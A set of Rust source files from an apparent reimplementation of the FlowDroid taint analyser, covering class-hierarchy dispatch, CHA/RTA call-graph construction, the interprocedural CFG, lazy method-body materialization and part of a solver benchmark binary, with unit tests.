    pub fn exit_stmts_of(&self, m: MethodId) -> Vec<StmtRef> {
        match self.program.method(m).body() {
            Some(b) => b.exits().map(|i| StmtRef::new(m, i)).collect(),
            None => vec![],
        }
    }

    /// Return sites of a call (its intraprocedural successors).
    pub fn return_sites_of_call(&self, r: StmtRef) -> Vec<StmtRef> {
        self.succs_of(r)
    }

    /// The method containing a statement.
    pub fn method_of(&self, r: StmtRef) -> MethodId {
        r.method
    }

    /// Returns `true` if the statement is the first of its method.
    pub fn is_start_point(&self, r: StmtRef) -> bool {
        r.idx == 0
    }

    /// Number of statements in a method's body (0 when body-less).
    pub fn body_len(&self, m: MethodId) -> StmtIdx {
        self.program.method(m).body().map_or(0, |b| b.len())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::graph::CgAlgorithm;
    use flowdroid_ir::{MethodBuilder, Type};

    fn simple() -> (Program, MethodId, MethodId) {
        let mut p = Program::new();
        let c = p.declare_class("C", None, &[]);
        let mut cb = MethodBuilder::new_static_on(&mut p, c, "callee", vec![Type::Int], Type::Int);
        let x = cb.param(0);
        cb.ret(Some(x.into()));
        let callee = cb.finish();
        let mut mb = MethodBuilder::new_static_on(&mut p, c, "main", vec![], Type::Void);
        let r = mb.local("r", Type::Int);
        mb.call_static(
            Some(r),
            "C",
            "callee",
            vec![Type::Int],
            Type::Int,
            vec![flowdroid_ir::Constant::Int(1).into()],
        );
        mb.ret(None);
        let main = mb.finish();
        (p, main, callee)
    }

    #[test]
    fn call_and_return_sites() {
        let (p, main, callee) = simple();
        let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
        let icfg = Icfg::new(&p, &cg);
        let call = StmtRef::new(main, 0);
        assert!(icfg.is_call(call));
        assert_eq!(icfg.callees_of_call(call), &[callee]);
        assert_eq!(icfg.return_sites_of_call(call), vec![StmtRef::new(main, 1)]);
        assert_eq!(icfg.start_points_of(callee), vec![StmtRef::new(callee, 0)]);
        assert_eq!(icfg.exit_stmts_of(callee), vec![StmtRef::new(callee, 0)]);
        assert_eq!(icfg.callers_of(callee), &[call]);
        assert!(icfg.is_exit(StmtRef::new(main, 1)));
        assert!(icfg.is_start_point(call));
    }
}
