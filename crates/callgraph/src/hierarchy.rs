//! Class-hierarchy indexes and virtual-dispatch resolution.

use flowdroid_ir::{ClassId, FxHashMap, FxHashSet, MethodId, MethodRef, Program, SubSig};

/// Precomputed subtype indexes over a program's class hierarchy.
///
/// Built once per program snapshot; rebuilding is cheap relative to the
/// analyses that consume it.
#[derive(Debug)]
pub struct Hierarchy {
    /// Direct subclasses (and direct subinterfaces) per class.
    direct_subs: FxHashMap<ClassId, Vec<ClassId>>,
    /// Direct implementers per interface.
    direct_impls: FxHashMap<ClassId, Vec<ClassId>>,
}

impl Hierarchy {
    /// Builds the hierarchy indexes for `program`.
    pub fn build(program: &Program) -> Self {
        let mut direct_subs: FxHashMap<ClassId, Vec<ClassId>> = FxHashMap::default();
        let mut direct_impls: FxHashMap<ClassId, Vec<ClassId>> = FxHashMap::default();
        for c in program.classes() {
            if let Some(s) = c.superclass() {
                direct_subs.entry(s).or_default().push(c.id());
            }
            for &i in c.interfaces() {
                direct_impls.entry(i).or_default().push(c.id());
            }
        }
        Self { direct_subs, direct_impls }
    }

    /// All transitive subtypes of `class`, including `class` itself.
    /// Covers both `extends` and `implements` edges.
    pub fn subtypes_of(&self, class: ClassId) -> Vec<ClassId> {
        let mut out = Vec::new();
        let mut seen = FxHashSet::default();
        let mut stack = vec![class];
        while let Some(c) = stack.pop() {
            if !seen.insert(c) {
                continue;
            }
            out.push(c);
            if let Some(subs) = self.direct_subs.get(&c) {
                stack.extend(subs.iter().copied());
            }
            if let Some(impls) = self.direct_impls.get(&c) {
                stack.extend(impls.iter().copied());
            }
        }
        out
    }

    /// Resolves the concrete method a receiver of *runtime* type
    /// `receiver` executes for `subsig`, by walking up the superclass
    /// chain (standard virtual dispatch).
    pub fn dispatch(
        &self,
        program: &Program,
        receiver: ClassId,
        subsig: &SubSig,
    ) -> Option<MethodId> {
        for c in program.supers(receiver) {
            if let Some(m) = program.class(c).method_by_subsig(subsig) {
                let method = program.method(m);
                if !method.is_abstract() {
                    return Some(m);
                }
            }
        }
        None
    }

    /// Class-hierarchy-analysis targets of a virtual/interface call
    /// through `mref`: for every possible runtime subtype of the declared
    /// class, the concrete method dispatch would select.
    ///
    /// `instantiated` optionally restricts runtime types to the given
    /// set (rapid type analysis); pass `None` for plain CHA.
    pub fn virtual_targets(
        &self,
        program: &Program,
        mref: &MethodRef,
        instantiated: Option<&FxHashSet<ClassId>>,
    ) -> Vec<MethodId> {
        let mut out = Vec::new();
        let mut seen = FxHashSet::default();
        for sub in self.subtypes_of(mref.class) {
            let cd = program.class(sub);
            if cd.is_interface() {
                continue;
            }
            if let Some(inst) = instantiated {
                // RTA: only consider classes the program actually
                // allocates; phantom (undeclared) classes are kept as a
                // conservative fallback for framework stubs.
                if cd.is_declared() && !inst.contains(&sub) {
                    continue;
                }
            } else if cd.is_abstract() {
                continue;
            }
            if let Some(m) = self.dispatch(program, sub, &mref.subsig) {
                if seen.insert(m) {
                    out.push(m);
                }
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_ir::{MethodBuilder, Type};

    fn diamond() -> (Program, ClassId, MethodId, MethodId) {
        // interface I { void run(); }
        // class A implements I { void run() {} }
        // class B extends A { void run() {} }
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let i = p.declare_interface("I", &[]);
        let a = p.declare_class("A", Some("java.lang.Object"), &["I"]);
        let b = p.declare_class("B", Some("A"), &[]);
        let run_a = MethodBuilder::new_instance(&mut p, a, "run", vec![], Type::Void).finish();
        let run_b = MethodBuilder::new_instance(&mut p, b, "run", vec![], Type::Void).finish();
        let _ = (i, b);
        (p, i, run_a, run_b)
    }

    #[test]
    fn subtypes_cross_interface_edges() {
        let (p, i, _, _) = diamond();
        let h = Hierarchy::build(&p);
        let subs = h.subtypes_of(i);
        let names: Vec<_> = subs.iter().map(|&c| p.class_name(c)).collect();
        assert!(names.contains(&"I"));
        assert!(names.contains(&"A"));
        assert!(names.contains(&"B"));
    }

    #[test]
    fn cha_interface_call_finds_both_overrides() {
        let (p, i, run_a, run_b) = diamond();
        let h = Hierarchy::build(&p);
        let subsig = p.method(run_a).subsig().clone();
        let mref = MethodRef { class: i, subsig };
        let targets = h.virtual_targets(&p, &mref, None);
        assert_eq!(targets.len(), 2);
        assert!(targets.contains(&run_a));
        assert!(targets.contains(&run_b));
    }

    #[test]
    fn rta_restricts_to_instantiated() {
        let (p, i, run_a, run_b) = diamond();
        let h = Hierarchy::build(&p);
        let subsig = p.method(run_a).subsig().clone();
        let mref = MethodRef { class: i, subsig };
        let mut inst = FxHashSet::default();
        inst.insert(p.find_class("B").unwrap());
        let targets = h.virtual_targets(&p, &mref, Some(&inst));
        assert_eq!(targets, vec![run_b]);
    }

    #[test]
    fn dispatch_walks_supers() {
        let (p, _, run_a, _) = diamond();
        let h = Hierarchy::build(&p);
        // class C extends A (no override): dispatch(C) = A.run — emulate
        // by dispatching on A itself.
        let a = p.find_class("A").unwrap();
        let subsig = p.method(run_a).subsig().clone();
        assert_eq!(h.dispatch(&p, a, &subsig), Some(run_a));
    }

    #[test]
    fn abstract_methods_are_not_dispatch_targets() {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let a = p.declare_class("A", Some("java.lang.Object"), &[]);
        p.set_abstract(a, true);
        let m = p.declare_method(a, "run", vec![], Type::Void, false);
        p.set_method_abstract(m, true);
        let h = Hierarchy::build(&p);
        assert_eq!(h.dispatch(&p, a, p.method(m).subsig()), None);
    }
}
