//! Call-graph construction by reachability from entry points.

use crate::hierarchy::Hierarchy;
use flowdroid_ir::{ClassId, FxHashMap, FxHashSet, InvokeKind, MethodId, Program, Rvalue, Stmt, StmtRef};
use std::collections::VecDeque;

/// Call-graph construction algorithm.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Default)]
pub enum CgAlgorithm {
    /// Class-hierarchy analysis: virtual calls dispatch to every
    /// overriding subtype.
    #[default]
    Cha,
    /// Rapid-type analysis: like CHA, but runtime types are restricted
    /// to classes instantiated in reachable code (iterated to a fixed
    /// point).
    Rta,
}

/// A call graph: callees per call site and callers per method, restricted
/// to methods reachable from the entry points.
///
/// Edges to body-less methods (natives, phantom framework stubs) are
/// recorded separately as *stub* edges; analyses handle those with
/// explicit rules rather than by descending into them.
#[derive(Debug, Default)]
pub struct CallGraph {
    entry_points: Vec<MethodId>,
    callees_at: FxHashMap<StmtRef, Vec<MethodId>>,
    stub_callees_at: FxHashMap<StmtRef, Vec<MethodId>>,
    callers_of: FxHashMap<MethodId, Vec<StmtRef>>,
    reachable: Vec<MethodId>,
    reachable_set: FxHashSet<MethodId>,
    instantiated: FxHashSet<ClassId>,
}

impl CallGraph {
    /// Builds the call graph reachable from `entry_points`.
    pub fn build(program: &Program, entry_points: &[MethodId], algo: CgAlgorithm) -> Self {
        let hierarchy = Hierarchy::build(program);
        Self::build_with_hierarchy(program, &hierarchy, entry_points, algo)
    }

    /// Builds the call graph using a pre-built [`Hierarchy`].
    pub fn build_with_hierarchy(
        program: &Program,
        hierarchy: &Hierarchy,
        entry_points: &[MethodId],
        algo: CgAlgorithm,
    ) -> Self {
        match algo {
            CgAlgorithm::Cha => Self::build_once(program, hierarchy, entry_points, None),
            CgAlgorithm::Rta => {
                // Iterate: the instantiated-class set and the reachable
                // set are mutually dependent.
                let mut instantiated: FxHashSet<ClassId> = FxHashSet::default();
                loop {
                    let cg =
                        Self::build_once(program, hierarchy, entry_points, Some(&instantiated));
                    let next = cg.collect_instantiated(program);
                    if next == instantiated {
                        return cg;
                    }
                    instantiated = next;
                }
            }
        }
    }

    fn build_once(
        program: &Program,
        hierarchy: &Hierarchy,
        entry_points: &[MethodId],
        instantiated: Option<&FxHashSet<ClassId>>,
    ) -> Self {
        let mut cg = CallGraph { entry_points: entry_points.to_vec(), ..Default::default() };
        let mut queue: VecDeque<MethodId> = VecDeque::new();
        for &m in entry_points {
            if cg.reachable_set.insert(m) {
                cg.reachable.push(m);
                queue.push_back(m);
            }
        }
        while let Some(m) = queue.pop_front() {
            let method = program.method(m);
            let Some(body) = method.body() else { continue };
            for (idx, stmt) in body.stmts().iter().enumerate() {
                let Some(call) = stmt.invoke_expr() else { continue };
                let site = StmtRef::new(m, idx);
                let targets: Vec<MethodId> = match call.kind {
                    InvokeKind::Static | InvokeKind::Special => {
                        program.resolve_method_ref(&call.callee).into_iter().collect()
                    }
                    InvokeKind::Virtual | InvokeKind::Interface => {
                        let mut t =
                            hierarchy.virtual_targets(program, &call.callee, instantiated);
                        // If dispatch found nothing (e.g. phantom-class
                        // receiver), fall back to the static resolution so
                        // stub handling still sees a target.
                        if t.is_empty() {
                            t = program.resolve_method_ref(&call.callee).into_iter().collect();
                        }
                        t
                    }
                };
                for t in targets {
                    if program.method(t).has_body() {
                        cg.callees_at.entry(site).or_default().push(t);
                        cg.callers_of.entry(t).or_default().push(site);
                        if cg.reachable_set.insert(t) {
                            cg.reachable.push(t);
                            queue.push_back(t);
                        }
                    } else {
                        cg.stub_callees_at.entry(site).or_default().push(t);
                    }
                }
            }
        }
        cg.instantiated = cg.collect_instantiated(program);
        cg
    }

    fn collect_instantiated(&self, program: &Program) -> FxHashSet<ClassId> {
        let mut out = FxHashSet::default();
        for &m in &self.reachable {
            if let Some(body) = program.method(m).body() {
                for stmt in body.stmts() {
                    if let Stmt::Assign { rhs: Rvalue::New(c), .. } = stmt {
                        out.insert(*c);
                    }
                }
            }
        }
        out
    }

    /// The entry points this graph was built from.
    pub fn entry_points(&self) -> &[MethodId] {
        &self.entry_points
    }

    /// Methods reachable from the entry points, in discovery order.
    pub fn reachable_methods(&self) -> &[MethodId] {
        &self.reachable
    }

    /// Returns `true` if `m` is reachable.
    pub fn is_reachable(&self, m: MethodId) -> bool {
        self.reachable_set.contains(&m)
    }

    /// Callees with bodies at a call site.
    pub fn callees_at(&self, site: StmtRef) -> &[MethodId] {
        self.callees_at.get(&site).map_or(&[], Vec::as_slice)
    }

    /// Body-less (stub/native/phantom) callees at a call site.
    pub fn stub_callees_at(&self, site: StmtRef) -> &[MethodId] {
        self.stub_callees_at.get(&site).map_or(&[], Vec::as_slice)
    }

    /// Call sites invoking `m`.
    pub fn callers_of(&self, m: MethodId) -> &[StmtRef] {
        self.callers_of.get(&m).map_or(&[], Vec::as_slice)
    }

    /// Classes instantiated in reachable code.
    pub fn instantiated_classes(&self) -> &FxHashSet<ClassId> {
        &self.instantiated
    }

    /// Total number of call edges (to methods with bodies).
    pub fn edge_count(&self) -> usize {
        self.callees_at.values().map(Vec::len).sum()
    }

    /// Returns `true` if a (transitive) call path exists from `from` to
    /// `to`, following only body-having edges.
    pub fn can_reach(&self, from: MethodId, to: MethodId) -> bool {
        let mut seen = FxHashSet::default();
        let mut stack = vec![from];
        while let Some(m) = stack.pop() {
            if m == to {
                return true;
            }
            if !seen.insert(m) {
                continue;
            }
            for (site, tgts) in &self.callees_at {
                if site.method == m {
                    stack.extend(tgts.iter().copied());
                }
            }
        }
        false
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_ir::{MethodBuilder, Type};

    /// main() calls I.run() on an interface; A and B implement it; B is
    /// never instantiated.
    fn build_program() -> (Program, MethodId, MethodId, MethodId) {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        p.declare_interface("I", &[]);
        let a = p.declare_class("A", Some("java.lang.Object"), &["I"]);
        let b = p.declare_class("B", Some("java.lang.Object"), &["I"]);
        let run_a = MethodBuilder::new_instance(&mut p, a, "run", vec![], Type::Void).finish();
        let run_b = MethodBuilder::new_instance(&mut p, b, "run", vec![], Type::Void).finish();
        let main_cls = p.declare_class("Main", Some("java.lang.Object"), &[]);
        let ity = p.ref_type("I");
        let mut mb = MethodBuilder::new_static_on(&mut p, main_cls, "main", vec![], Type::Void);
        let x = mb.local("x", ity.clone());
        mb.new_object_uninit(x, "A");
        mb.call_interface(None, x, "I", "run", vec![], Type::Void, vec![]);
        let main = mb.finish();
        (p, main, run_a, run_b)
    }

    #[test]
    fn cha_reaches_all_implementers() {
        let (p, main, run_a, run_b) = build_program();
        let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
        assert!(cg.is_reachable(run_a));
        assert!(cg.is_reachable(run_b));
        let site = StmtRef::new(main, 1);
        assert_eq!(cg.callees_at(site).len(), 2);
        assert_eq!(cg.callers_of(run_a), &[site]);
    }

    #[test]
    fn rta_prunes_uninstantiated() {
        let (p, main, run_a, run_b) = build_program();
        let cg = CallGraph::build(&p, &[main], CgAlgorithm::Rta);
        assert!(cg.is_reachable(run_a));
        assert!(!cg.is_reachable(run_b), "B is never instantiated");
    }

    #[test]
    fn stub_edges_for_bodyless_targets() {
        let mut p = Program::new();
        let c = p.declare_class("Main", None, &[]);
        let mut b = MethodBuilder::new_static_on(&mut p, c, "main", vec![], Type::Void);
        b.call_static(None, "android.util.Log", "i", vec![], Type::Void, vec![]);
        let main = b.finish();
        // Declare the stub method body-less so it resolves.
        let log = p.find_class("android.util.Log").unwrap();
        let m = p.declare_method(log, "i", vec![], Type::Void, true);
        p.set_native(m, true);
        let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
        let site = StmtRef::new(main, 0);
        assert!(cg.callees_at(site).is_empty());
        assert_eq!(cg.stub_callees_at(site), &[m]);
    }

    #[test]
    fn can_reach_is_transitive() {
        let mut p = Program::new();
        let c = p.declare_class("C", None, &[]);
        let mut b3 = MethodBuilder::new_static_on(&mut p, c, "h", vec![], Type::Void);
        b3.nop();
        let h = b3.finish();
        let mut b2 = MethodBuilder::new_static_on(&mut p, c, "g", vec![], Type::Void);
        b2.call_static(None, "C", "h", vec![], Type::Void, vec![]);
        b2.finish();
        let mut b1 = MethodBuilder::new_static_on(&mut p, c, "f", vec![], Type::Void);
        b1.call_static(None, "C", "g", vec![], Type::Void, vec![]);
        let f = b1.finish();
        let cg = CallGraph::build(&p, &[f], CgAlgorithm::Cha);
        assert!(cg.can_reach(f, h));
        assert!(!cg.can_reach(h, f));
    }
}
