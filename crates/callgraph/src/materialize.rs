//! Demand-driven body materialization gated by callgraph reachability.
//!
//! Lazily loaded frontends (see `flowdroid_frontend::sdex::decode_lazy`)
//! register method bodies as *pending* on the [`Program`]; before a call
//! graph can be built over such a program, the bodies of every method
//! the closure might reach must be decoded. [`materialize_reachable`]
//! performs that discovery: a breadth-first walk from the entry points
//! that materializes each discovered method's body and then scans it for
//! call sites, dispatching virtual calls through the [`Hierarchy`].
//!
//! The walk deliberately over-approximates both callgraph algorithms
//! (it is plain CHA *without* the abstract-receiver or instantiated-set
//! pruning), so the immutable [`crate::CallGraph::build`] that follows
//! never encounters a reachable method whose body is still pending.
//! Unreached bodies stay pending — that is the point: they are counted
//! as `bodies_skipped` and never lowered.

use crate::hierarchy::Hierarchy;
use flowdroid_ir::{FxHashSet, InvokeKind, MethodId, Program};
use std::collections::VecDeque;

/// Statistics of one materialization pass.
#[derive(Debug, Clone, Copy, Default)]
pub struct MaterializeStats {
    /// Bodies decoded by this pass.
    pub materialized: u64,
    /// Methods visited by the reachability walk.
    pub visited: u64,
}

/// Materializes the bodies of every method reachable from
/// `entry_points`, using `hierarchy` for virtual dispatch. Returns the
/// pass statistics. A program with no pending bodies returns
/// immediately.
///
/// Body decoding may create new *phantom* classes (for types referenced
/// only inside bodies); those are hierarchy leaves without methods or
/// subtype edges, so a hierarchy built before this pass remains valid
/// for the callgraph construction that follows.
pub fn materialize_reachable(
    program: &mut Program,
    hierarchy: &Hierarchy,
    entry_points: &[MethodId],
) -> MaterializeStats {
    let mut stats = MaterializeStats::default();
    if !program.has_pending_bodies() {
        return stats;
    }
    let mut seen: FxHashSet<MethodId> = FxHashSet::default();
    let mut queue: VecDeque<MethodId> = VecDeque::new();
    for &m in entry_points {
        if seen.insert(m) {
            queue.push_back(m);
        }
    }
    while let Some(m) = queue.pop_front() {
        stats.visited += 1;
        if program.ensure_body(m) {
            stats.materialized += 1;
        }
        let mut targets: Vec<MethodId> = Vec::new();
        {
            let Some(body) = program.method(m).body() else { continue };
            for stmt in body.stmts() {
                let Some(call) = stmt.invoke_expr() else { continue };
                match call.kind {
                    InvokeKind::Static | InvokeKind::Special => {
                        targets.extend(program.resolve_method_ref(&call.callee));
                    }
                    InvokeKind::Virtual | InvokeKind::Interface => {
                        // Superset of CHA: dispatch on every subtype,
                        // including abstract receivers (RTA may keep
                        // instantiated abstract classes CHA would skip).
                        let before = targets.len();
                        for sub in hierarchy.subtypes_of(call.callee.class) {
                            if program.class(sub).is_interface() {
                                continue;
                            }
                            if let Some(t) = hierarchy.dispatch(program, sub, &call.callee.subsig)
                            {
                                targets.push(t);
                            }
                        }
                        if targets.len() == before {
                            // Same fallback as the callgraph builder:
                            // phantom receivers resolve statically.
                            targets.extend(program.resolve_method_ref(&call.callee));
                        }
                    }
                }
            }
        }
        for t in targets {
            if program.method(t).has_body() && seen.insert(t) {
                queue.push_back(t);
            }
        }
    }
    stats
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{CallGraph, CgAlgorithm};
    use flowdroid_ir::{MethodBuilder, Type};

    /// Builds main -> A.run (virtual via I) with an unreachable method
    /// `dead`, encodes it through the frontend idiom used in production
    /// (a BodySource registered per method), and checks the walk
    /// materializes exactly the reachable bodies.
    #[test]
    fn only_reachable_bodies_are_materialized() {
        use flowdroid_ir::{Body, BodySource, Program as Prog};
        use std::sync::Arc;

        // Author the eager program first.
        let mut p = Prog::new();
        p.declare_class("java.lang.Object", None, &[]);
        p.declare_interface("I", &[]);
        let a = p.declare_class("A", Some("java.lang.Object"), &["I"]);
        let run_a = MethodBuilder::new_instance(&mut p, a, "run", vec![], Type::Void).finish();
        let mut dead_b = MethodBuilder::new_instance(&mut p, a, "dead", vec![], Type::Void);
        dead_b.nop();
        let dead = dead_b.finish();
        let main_cls = p.declare_class("Main", Some("java.lang.Object"), &[]);
        let ity = p.ref_type("I");
        let mut mb = MethodBuilder::new_static_on(&mut p, main_cls, "main", vec![], Type::Void);
        let x = mb.local("x", ity);
        mb.new_object_uninit(x, "A");
        mb.call_interface(None, x, "I", "run", vec![], Type::Void, vec![]);
        let main = mb.finish();

        // Re-create it with deferred bodies cloned from the eager one.
        struct FromEager {
            bodies: Vec<Option<Body>>,
        }
        impl BodySource for FromEager {
            fn materialize(
                &self,
                _program: &mut Prog,
                method: MethodId,
                _token: u64,
            ) -> Result<Body, String> {
                self.bodies[method.index()].clone().ok_or_else(|| "no body".to_owned())
            }
        }
        let source = Arc::new(FromEager {
            bodies: p.methods().map(|m| m.body().cloned()).collect(),
        });
        // The lazy program repeats the declarations body-less, deferring
        // each body to the eager program's copy.
        let mut q = Prog::new();
        q.declare_class("java.lang.Object", None, &[]);
        q.declare_interface("I", &[]);
        let qa = q.declare_class("A", Some("java.lang.Object"), &["I"]);
        let q_run = q.declare_method(qa, "run", vec![], Type::Void, false);
        let q_dead = q.declare_method(qa, "dead", vec![], Type::Void, false);
        let qm = q.declare_class("Main", Some("java.lang.Object"), &[]);
        let q_main = q.declare_method(qm, "main", vec![], Type::Void, true);
        // Map q's ids onto p's bodies (same declaration order).
        assert_eq!(q_run.index(), run_a.index());
        assert_eq!(q_dead.index(), dead.index());
        assert_eq!(q_main.index(), main.index());
        q.defer_body(q_run, source.clone(), 0);
        q.defer_body(q_dead, source.clone(), 0);
        q.defer_body(q_main, source.clone(), 0);

        let hierarchy = Hierarchy::build(&q);
        let stats = materialize_reachable(&mut q, &hierarchy, &[q_main]);
        assert_eq!(stats.materialized, 2, "main and A.run only");
        assert_eq!(q.pending_body_count(), 1, "A.dead stays pending");
        assert!(q.method(q_dead).body_is_pending());

        // The callgraph over the materialized program matches the eager
        // one.
        let cg_lazy = CallGraph::build(&q, &[q_main], CgAlgorithm::Cha);
        let cg_eager = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
        assert_eq!(cg_lazy.reachable_methods().len(), cg_eager.reachable_methods().len());
        assert_eq!(cg_lazy.edge_count(), cg_eager.edge_count());
    }
}
