#![warn(missing_docs)]

//! Call-graph construction and the interprocedural control-flow graph.
//!
//! This crate is the substrate equivalent of Soot's Spark/CHA call-graph
//! machinery that the original FlowDroid builds on. It provides:
//!
//! * [`Hierarchy`] — subclass/implementer indexes over a
//!   [`flowdroid_ir::Program`] with virtual-dispatch resolution,
//! * [`CallGraph`] — built by reachability from a set of entry points
//!   using either class-hierarchy analysis (CHA) or rapid-type analysis
//!   (RTA, see [`CgAlgorithm`]),
//! * [`Icfg`] — the interprocedural CFG view consumed by the IFDS solver
//!   (successors/predecessors, callees of a call site, callers and start
//!   points of a method, return sites).
//!
//! # Example
//!
//! ```
//! use flowdroid_ir::{Program, MethodBuilder, Type};
//! use flowdroid_callgraph::{CallGraph, CgAlgorithm, Icfg};
//!
//! let mut p = Program::new();
//! let c = p.declare_class("Main", None, &[]);
//! let mut b = MethodBuilder::new_static_on(&mut p, c, "main", vec![], Type::Void);
//! b.call_static(None, "Main", "work", vec![], Type::Void, vec![]);
//! let main = b.finish();
//! MethodBuilder::new_static_on(&mut p, c, "work", vec![], Type::Void).finish();
//!
//! let cg = CallGraph::build(&p, &[main], CgAlgorithm::Cha);
//! assert_eq!(cg.reachable_methods().len(), 2);
//! let icfg = Icfg::new(&p, &cg);
//! assert!(icfg.is_call(flowdroid_ir::StmtRef::new(main, 0)));
//! ```

mod graph;
mod hierarchy;
mod icfg;
mod materialize;

pub use graph::{CallGraph, CgAlgorithm};
pub use hierarchy::Hierarchy;
pub use icfg::Icfg;
pub use materialize::{materialize_reachable, MaterializeStats};
