//! Emits `BENCH_solver.json`: solver performance across four mode
//! families — sequential with whole-fact keys, sequential with
//! interned `u32` keys (the default), the parallel corpus driver at
//! 1/2/4/8 threads, and the parallel *taint engine* (work-stealing
//! bidirectional solver) at 1/2/4/8 workers — over the full
//! DroidBench + SecuriBench corpus. Parallel-taint modes report the
//! scheduler counters (pushes, steals, claims, shard occupancy).
//!
//! Heap allocations are counted with a wrapping global allocator, so
//! the interned-vs-direct comparison measures exactly what interning
//! buys. Leak reports are compared byte-for-byte across every mode;
//! the binary exits non-zero if any run diverges.
//!
//! The `demand-lazy` mode runs the corpus through the demand-driven
//! frontend (platform snapshot clone + lazy method bodies); its report
//! is compared byte-for-byte against the eager baseline and the run
//! must skip at least one method body, or the binary exits non-zero.
//!
//! `--mode service` benchmarks the analysis *daemon* instead: it
//! saves a `platform.fdps` snapshot, binds an in-process daemon on an
//! ephemeral port that boots from it, floods it with the whole corpus
//! twice (cold then warm against one shared summary cache), and
//! records per-job wall-clock, queue-wait and setup/dataflow split
//! times as a `"service"` section spliced into the same output file
//! (the `available_cores` field and the solver-mode sections are
//! kept). The warm insecurebank job must spend no more time in setup
//! than in the data-flow solver, and the lazy frontend must skip at
//! least one method body, or the binary exits non-zero.
//!
//! Usage: `solver_stats [--mode full|service] [output.json]`
//! (default mode `full`, default output `BENCH_solver.json`).

use flowdroid_bench::driver::{corpus_report, full_corpus, run_corpus, CorpusJob, CorpusRun};
use flowdroid_core::{InfoflowConfig, SchedulerStats, SummaryCacheStats, TableStats};
use flowdroid_service::{Client, Daemon, DaemonOptions, JobResult, Listen};
use std::alloc::{GlobalAlloc, Layout, System};
use std::fmt::Write as _;
use std::sync::atomic::{AtomicU64, Ordering};

/// Counts every allocation (and reallocation) made through the global
/// allocator. `Relaxed` is fine: the counter is read only between
/// runs, after all worker threads have joined.
struct CountingAlloc;

static ALLOCATIONS: AtomicU64 = AtomicU64::new(0);

unsafe impl GlobalAlloc for CountingAlloc {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        System.alloc(layout)
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout)
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        System.realloc(ptr, layout, new_size)
    }
}

#[global_allocator]
static ALLOC: CountingAlloc = CountingAlloc;

struct ModeStats {
    name: &'static str,
    threads: usize,
    wall_ms: f64,
    app_time_ms: f64,
    dataflow_ms: f64,
    setup_ms: f64,
    forward_propagations: u64,
    backward_propagations: u64,
    bodies_materialized: u64,
    bodies_skipped: u64,
    leaks: usize,
    allocations: u64,
    distinct_facts: usize,
    distinct_aps: usize,
    scheduler: Option<SchedulerStats>,
    fact_tables: Option<TableStats>,
    summary_cache: Option<SummaryCacheStats>,
    report: String,
}

fn ms(d: std::time::Duration) -> f64 {
    d.as_secs_f64() * 1e3
}

fn measure(
    name: &'static str,
    jobs: &[CorpusJob],
    config: &InfoflowConfig,
    threads: usize,
) -> ModeStats {
    ALLOCATIONS.store(0, Ordering::Relaxed);
    let run: CorpusRun = run_corpus(jobs, config, threads);
    let allocations = ALLOCATIONS.load(Ordering::Relaxed);
    let (fw, bw) = run.total_propagations();
    let (materialized, skipped) = run.total_bodies();
    let app_time = run.total_app_time();
    let dataflow = run.total_dataflow_time();
    ModeStats {
        name,
        threads,
        wall_ms: ms(run.wall),
        app_time_ms: ms(app_time),
        dataflow_ms: ms(dataflow),
        setup_ms: ms(app_time.saturating_sub(dataflow)),
        forward_propagations: fw,
        backward_propagations: bw,
        bodies_materialized: materialized,
        bodies_skipped: skipped,
        leaks: run.total_leaks(),
        allocations,
        distinct_facts: run.total_distinct_facts(),
        distinct_aps: run.total_distinct_aps(),
        scheduler: run.scheduler_totals(),
        fact_tables: run.fact_table_totals(),
        summary_cache: run.summary_cache_totals(),
        report: corpus_report(&run),
    }
}

fn summary_cache_json(s: &Option<SummaryCacheStats>) -> String {
    match s {
        None => "null".to_string(),
        Some(s) => format!(
            concat!(
                "{{ \"hits\": {}, \"misses\": {}, \"stale\": {}, ",
                "\"store_methods\": {}, \"recorded\": {} }}"
            ),
            s.hits, s.misses, s.stale, s.store_methods, s.recorded
        ),
    }
}

fn scheduler_json(s: &Option<SchedulerStats>) -> String {
    match s {
        None => "null".to_string(),
        Some(s) => format!(
            concat!(
                "{{ \"shards\": {}, \"pushed\": {}, \"steals\": {}, \"claims\": {}, ",
                "\"occupied_shards\": {}, \"max_shard_pushes\": {} }}"
            ),
            s.shards,
            s.pushed,
            s.steals,
            s.claims,
            s.occupied_shards(),
            s.max_shard_pushes()
        ),
    }
}

fn fact_tables_json(s: &Option<TableStats>) -> String {
    match s {
        None => "null".to_string(),
        Some(t) => format!(
            concat!(
                "{{ \"rows\": {}, \"sparse_rows\": {}, \"dense_rows\": {}, ",
                "\"dense_words\": {}, \"widened_facts\": {} }}"
            ),
            t.rows, t.sparse_rows, t.dense_rows, t.dense_words, t.widened_facts
        ),
    }
}

/// Interning counters as JSON: `null` when untracked (interning off —
/// the interner always holds at least the zero fact when it runs, so
/// `0` can only mean "not measured" and is reported as such).
fn count_json(n: usize) -> String {
    if n == 0 {
        "null".to_string()
    } else {
        n.to_string()
    }
}

fn mode_json(m: &ModeStats, report_identical: bool) -> String {
    format!(
        concat!(
            "    {{\n",
            "      \"mode\": \"{}\",\n",
            "      \"threads\": {},\n",
            "      \"wall_ms\": {:.3},\n",
            "      \"app_time_ms\": {:.3},\n",
            "      \"dataflow_ms\": {:.3},\n",
            "      \"setup_ms\": {:.3},\n",
            "      \"forward_propagations\": {},\n",
            "      \"backward_propagations\": {},\n",
            "      \"bodies_materialized\": {},\n",
            "      \"bodies_skipped\": {},\n",
            "      \"leaks\": {},\n",
            "      \"allocations\": {},\n",
